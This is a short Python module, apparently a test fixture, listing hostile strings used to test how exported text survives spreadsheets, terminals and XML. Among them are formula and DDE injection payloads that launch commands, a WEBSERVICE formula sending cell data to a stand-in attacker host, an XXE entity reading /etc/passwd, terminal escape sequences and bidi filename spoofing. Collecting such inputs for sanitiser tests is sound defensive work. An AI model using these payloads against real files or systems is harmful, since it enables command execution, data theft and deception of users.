"""Texts that want to act: as a formula, on a terminal, on the XML around them, on the eye of the reader."""

from __future__ import annotations

LONG = "x" * 40_000

HOSTILE: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example","clic aquí")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "{=1+1}",
    "http://evil.example/",
    "lone \ud800 surrogate \udfff",
    "nul \x00 bell \x07 escape \x1b[31mrojo\x1b[0m \x1b]8;;http://evil.example\x07enlace\x1b]8;;\x07",
    "C1 \x9b31m y \x85 \x90q\x9c",
    "derecha \u202eslx.exe\u202c a izquierda \u2066\u2069\u200f",
    "línea \u2028 párrafo \u2029",
    "no caracteres \ufffe \uffff",
    "]]> <![CDATA[x]]> <!-- x --> <?x y?>",
    '</t></is></c><c r="A1"><f>1+1</f><v>2</v></c>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&amp; &lt; &#65; &quot;",
    "_x0000_ _x0041_ _x000D_ _x005F_",
    "'=1+1",
    '"; =1+1; "',
    'a";=1+1;"b\r\n=2+2',
    "[red]marcado[/] \\[x]",
    "[link=http://evil.example]clic[/link]",
    "😀" * 20_000,
    LONG,
)
